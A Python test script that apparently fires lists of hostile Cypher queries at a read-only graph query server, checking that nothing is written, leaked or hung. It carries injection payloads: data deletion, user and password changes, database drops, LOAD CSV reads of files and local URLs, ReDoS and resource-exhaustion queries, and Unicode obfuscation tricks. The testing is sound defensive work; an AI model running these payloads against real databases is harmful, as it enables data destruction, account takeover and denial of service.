"""Hostile Cypher against `kg serve`: nothing may change or leave the machine, and the server must answer all the while.

    python -m tests.cypher_attacks                                  (over the embedded engine)
    python -m tests.cypher_attacks --bolt bolt://localhost:7687     (over a Neo4j with nothing in it)

Prints what each text was answered and how long it took. Exits with 1 when anything changed, leaked, hung or failed.
"""

import argparse
import tempfile
import time
from pathlib import Path

import httpx

from kg.ontology import load_ontology
from loaders.bolt import connect
from tests.attacks import SECRET, Outcome, Result, listener, watched
from tests.graphs import ROWS, write_graph
from tests.served import served

TIMEOUT = 0.5  # seconds that each query asks for

WRITES = """
CREATE (:Event {id: 'x', text: 'x'})
CREATE (:Other)
MERGE (n:Event {id: 'x'}) RETURN n
MATCH (n) DETACH DELETE n
MATCH (n) DELETE n
MATCH ()-[r]->() DELETE r
MATCH (n:Event) SET n.text = 'x'
MATCH (n:Event) SET n += {text: 'x'}
MATCH (n:Event) SET n = {}
MATCH (n:Event) REMOVE n.text
MATCH (n:Event) REMOVE n:Event
MATCH (n:Event) SET n:Admin
MATCH (n) FOREACH (x IN [1] | SET n.text = 'x')
MATCH (a:Event), (b:Event) CREATE (a)-[:X_WANT]->(b)
MATCH (a:Event) MERGE (a)-[:HACKED]->(a)
CALL { CREATE (:Other) }
CALL { CREATE (n:Other) RETURN n } RETURN n
MATCH (n) CALL { WITH n DETACH DELETE n } RETURN 1
MATCH (n) CALL (n) { SET n.text = 'x' } RETURN count(*)
MATCH (n) CALL { WITH n DELETE n } IN TRANSACTIONS
UNWIND range(1, 100) AS i CALL { WITH i CREATE (:Other {i: i}) } IN TRANSACTIONS OF 10 ROWS
CALL { MATCH (n) SET n.text = 'x' RETURN count(*) AS c UNION MATCH (n) DELETE n RETURN 1 AS c } RETURN c
RETURN EXISTS { CREATE (:Other) }
RETURN COUNT { MERGE (:Other) }
RETURN COLLECT { CREATE (n:Other) RETURN n }
MATCH (n) WHERE EXISTS { MATCH (n) DELETE n } RETURN n
/* */ CREATE (:Other)
// a comment\nCREATE (:Other)
/* RETURN 1 */ MATCH (n) /* nothing */ DETACH /* to see */ DELETE n
PROFILE CREATE (:Other)
EXPLAIN CREATE (:Other) RETURN 1; CREATE (:Other)
RETURN 1; CREATE (:Other)
RETURN 1;;CREATE (:Other);
CREATE\u00a0(:Other)
C\\u0052EATE (:Other)
CREATE (:`Other`) // `
CREATE (:Event`) DETACH DELETE n //`)
MATCH (n:`Event`) SET n.`text` = 'x'
MATCH (n) SET n[$key] = 'x'
MATCH (n) SET n:$(['Other'])
CYPHER runtime=slotted CREATE (:Other)
CYPHER 5 CREATE (:Other)
CYPHER 25 CREATE (:Other)
USE neo4j CREATE (:Other)
USE system CREATE USER eve SET PASSWORD 'a-long-password'
LOAD CSV FROM 'file:///x.csv' AS line CREATE (:Other)
CREATE INDEX other FOR (n:Event) ON (n.text)
CREATE FULLTEXT INDEX other FOR (n:Event) ON EACH [n.text]
CREATE VECTOR INDEX other FOR (n:Event) ON (n.v) OPTIONS {indexConfig: {`vector.dimensions`: 3}}
CREATE CONSTRAINT other FOR (n:Event) REQUIRE n.text IS UNIQUE
DROP CONSTRAINT kg_event_id
DROP CONSTRAINT kg_event_id IF EXISTS
DROP INDEX kg_text IF EXISTS
CALL db.createLabel('Other')
CALL db.createProperty('other')
CALL db.createRelationshipType('OTHER')
CALL db.index.fulltext.drop('kg_text')
CALL apoc.create.node(['Other'], {}) YIELD node RETURN node
CALL apoc.cypher.doIt('CREATE (:Other)', {}) YIELD value RETURN value
CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})
RETURN apoc.cypher.runFirstColumnSingle('CREATE (n:Other) RETURN n', {})
CALL apoc.refactor.rename.label('Event', 'Other')
CALL merge.node(['Other'], {id: 'x'}, {}, {})
INSERT (:Other)
MATCH (n:Event) SET n.text = null
WITH 1 AS x CREATE (:Other {x: x}) RETURN x
OPTIONAL MATCH (n) DETACH DELETE n
DETACH DELETE n
MATCH (n) NODETACH DELETE n
""".strip().split("\n")
POWERS = """
CREATE USER eve SET PASSWORD 'a-long-password'
CREATE USER eve SET PASSWORD 'a-long-password' CHANGE NOT REQUIRED
ALTER USER root SET PASSWORD 'a-long-password'
ALTER USER neo4j SET PASSWORD 'a-long-password'
ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'a-long-password'
DROP USER reader
DROP USER neo4j
SHOW USERS
SHOW CURRENT USER
GRANT ROLE admin TO neo4j
CREATE DATABASE other
DROP DATABASE neo4j
STOP DATABASE neo4j
ALTER DATABASE neo4j SET ACCESS READ ONLY
SHOW SETTINGS
SHOW TRANSACTIONS
/* */ SHOW TRANSACTIONS
SHOW TRANSACTIONS YIELD *
\u017fHOW TRANSACTIONS
TERMINATE TRANSACTIONS 'neo4j-transaction-1'
terminate transaction 'x'
CALL dbms.listConfig()
CALL dbms.listConfig
CALL/**/dbms.listConfig()
CALL dbms. listConfig ()
CALL `dbms`.`listConfig`()
CALL dbms.security.createUser('eve', 'a-long-password', false)
CALL dbms.killQuery('query-1')
CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')
CALL dbms.upgrade()
CALL dbms.showCurrentUser()
CALL dbms.queryJmx('*:*')
CALL db.stats.retrieve('GRAPH COUNTS')
CALL db.clearQueryCaches()
CALL db.prepareForReplanning()
CALL db.checkpoint()
CALL tx.setMetaData({a: 1})
""".strip().split("\n")
OUTSIDE = """
LOAD CSV FROM 'file://{file}' AS line RETURN line
LOAD CSV WITH HEADERS FROM 'file://{file}' AS line RETURN line
load csv from 'file:///{file}' as line return line
LOAD/**/CSV FROM 'file://{file}' AS line RETURN line
L\\u004fAD CSV FROM 'file://{file}' AS line RETURN line
CALL {{ LOAD CSV FROM 'file://{file}' AS line RETURN line }} RETURN line
RETURN COLLECT {{ LOAD CSV FROM 'file://{file}' AS line RETURN line }}
LOAD CSV FROM 'http://127.0.0.1:{port}/x' AS line RETURN line
LOAD CSV FROM 'https://127.0.0.1:{port}/x' AS line RETURN line
LOAD CSV FROM 'ftp://127.0.0.1:{port}/x' AS line RETURN line
LOAD CSV FROM 'jar:http://127.0.0.1:{port}/x!/y' AS line RETURN line
LOAD CSV FROM 'HTTP://127.0.0.1:{port}/x' AS line RETURN line
WITH 'http://127.0.0.1:{port}/' AS u LOAD CSV FROM u AS line RETURN line
MATCH (n) LOAD CSV FROM 'http://127.0.0.1:{port}/' + n.text AS line RETURN line
USING PERIODIC COMMIT LOAD CSV FROM 'http://127.0.0.1:{port}/x' AS line RETURN line
EXPLAIN LOAD CSV FROM 'http://127.0.0.1:{port}/x' AS line RETURN line
PROFILE LOAD CSV FROM 'http://127.0.0.1:{port}/x' AS line RETURN line
CALL apoc.load.json('http://127.0.0.1:{port}/x') YIELD value RETURN value
CALL apoc.load.csv('file://{file}') YIELD list RETURN list
CALL apoc.export.csv.all('{file}', {{}})
CALL apoc.util.sleep(100000)
RETURN genai.vector.encode('x', 'OpenAI', {{token: 'x', endpoint: 'http://127.0.0.1:{port}'}})
CALL genai.vector.encodeBatch(['x'], 'OpenAI', {{token: 'x'}}) YIELD index RETURN index
CALL dbms.cluster.routing.getRoutingTable({{}})
RETURN file('{file}')
RETURN util.sleep(100000)
""".strip().split("\n")
HEAVY = """
UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN count(*)
UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN a, b
MATCH (a), (b), (c), (d), (e), (f), (g), (h), (i), (j), (k), (l) RETURN count(*)
MATCH (a), (b), (c), (d), (e), (f), (g), (h) WITH a, b, c, d, e, f, g, h ORDER BY h.text + a.text RETURN a, h
RETURN reduce(a = 0, x IN range(1, 100000) | a + reduce(b = 0, y IN range(1, 100000) | b + y))
RETURN reduce(s = 'x', x IN range(1, 40) | s + s)
RETURN reduce(l = [1], x IN range(1, 40) | l + l)
UNWIND range(1, 100000000) AS x RETURN collect(x)
RETURN range(1, 1000000000)
RETURN size([x IN range(1, 100000) WHERE size([y IN range(1, 100000) WHERE y = x]) > 0])
WITH reduce(s = 'a', x IN range(1, 14) | s + s) AS s RETURN s =~ '(a+)+b'
RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' =~ '((a*)*)*b'
MATCH p = (a)-[*]-(b) RETURN count(p)
MATCH p = (a)-[*0..100]-(b) WITH p, range(1, 100000) AS r UNWIND r AS x RETURN count(x)
MATCH p = shortestPath((a)-[*]-(b)) RETURN p
UNWIND range(1, 100000) AS i CALL { WITH i UNWIND range(1, 100000) AS j RETURN count(j) AS c } RETURN sum(c)
UNWIND range(1, 1000000) AS x WITH DISTINCT toString(x) + 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' AS s RETURN collect(s)
UNWIND range(1, 100000) AS x RETURN x, reduce(s = 'x', y IN range(1, 15) | s + s) AS s
RETURN reduce(m = {a: 1}, x IN range(1, 30) | {a: m, b: m})
CALL algo.pagerank()
""".strip().split("\n")
MADE = {
    "10 MB": "RETURN '" + "x" * 10_000_000 + "'",
    "900 kB string": "RETURN size('" + "x" * 900_000 + "')",
    "900 kB comment": "/*" + "x" * 900_000 + "*/ CREATE (:Other)",
    "deep lists": "RETURN " + "[" * 20_000 + "]" * 20_000,
    "deep brackets": "RETURN " + "(" * 20_000 + "1" + ")" * 20_000,
    "deep NOT": "RETURN " + "NOT " * 20_000 + "true",
    "deep subqueries": "CALL { " * 2_000 + "RETURN 1 AS x" + " } RETURN x" * 2_000,
    "deep CASE": "RETURN " + "CASE WHEN true THEN " * 5_000 + "1" + " END" * 5_000,
    "many additions": "RETURN " + " + ".join(["1"] * 100_000),
    "many patterns": "MATCH " + ", ".join(f"(n{i})-[]-(m{i})" for i in range(2_000)) + " RETURN count(*)",
    "many unions": " UNION ALL ".join(["RETURN 1 AS x"] * 5_000),
    "many clauses": "WITH 1 AS x " * 20_000 + "RETURN x",
    "injected label": "MATCH (n:`Event`) DETACH DELETE n //`) RETURN n",
    "zero width": "CRE\u200bATE (:Other)",
    "right to left": "\u202eCREATE (:Other)",
    "full width": "ＣＲＥＡＴＥ (:Other)",
    "byte order mark": "\ufeffCREATE (:Other)",
    "open string": "RETURN 'x CREATE (:Other)",
    "open comment": "RETURN 1 /* CREATE (:Other)",
    "escaped quote": "RETURN '\\' CREATE (:Other) //'",
    "unicode quote": "RETURN '\\u0027 CREATE (:Other) //'",
}


def texts(file: Path, port: int) -> list[str]:
    """All hostile texts; `file` is one that must not be read, `port` one that must not be connected to."""
    outside = [text.format(file=file, port=port) for text in OUTSIDE]
    return [*WRITES, *POWERS, *outside, *HEAVY, *MADE.values()]


def attack(folder: Path, bolt: str | None) -> Result:
    """Loads a small graph, serves it, and sends all the texts, while `/health` is asked all the time."""
    result = Result()
    options = ["--bolt", bolt] if bolt else []
    graph = write_graph(folder / "run", ROWS)
    secret = folder / "secret.csv"
    secret.write_text(SECRET)
    store = connect(load_ontology(), graph.path / "cypher", bolt)
    store.write(graph, "demo-1")
    before = _state(store)
    with (
        listener() as (port, seen), served(graph.path, *options) as url,
        httpx.Client(base_url=url, timeout=20) as client,
    ):
        with watched(url, "cypher", result):
            for text in texts(secret, port):
                _send(client, text, result)
            alive = client.post("/cypher", json={"query": "MATCH (n) RETURN count(n)"})
        if alive.status_code != 200 or alive.json()["rows"] != [[graph.counts()["nodes"]]]:
            result.faults.append(f"the server no longer answers right: {alive.text[:500]}")
        if seen:
            result.faults.append(f"{len(seen)} connections left the server")
    if _state(store) != before:
        result.faults.append("data or schema changed")
    store.close()
    return result


def _send(client: httpx.Client, text: str, result: Result) -> None:
    started = time.monotonic()
    body = {"query": text, "timeout": TIMEOUT, "limit": 1000, "parameters": {"key": "text"}}
    try:
        response = client.post("/cypher", json=body)
    except httpx.HTTPError as error:
        result.faults.append(f"{error!r} for {text[:100]}")
        return
    outcome = Outcome(text[:100], response.status_code, time.monotonic() - started, response.text)
    result.judge(outcome, TIMEOUT, (200, 400, 413, 422, 504))


def _state(store: object) -> list[object]:
    """All nodes, edges, indexes and users that there are."""
    queries = [
        "MATCH (n) RETURN labels(n), properties(n) ORDER BY n.id",
        "MATCH (a)-[r]->(b) RETURN a.id, type(r), properties(r), b.id ORDER BY r.id",
        "SHOW CONSTRAINTS", "CALL db.labels()",
    ]
    found: list[object] = [store.query(query).rows for query in queries]  # type: ignore[attr-defined]
    indexes = store.query("SHOW INDEXES")  # type: ignore[attr-defined]
    return [*found, sorted(row[indexes.columns.index("name")] for row in indexes.rows)]


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--bolt", help="address of a Neo4j to attack; its data is not spared if the attack works")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        result = attack(Path(folder), options.bolt)
    result.print_and_exit()


if __name__ == "__main__":
    main()
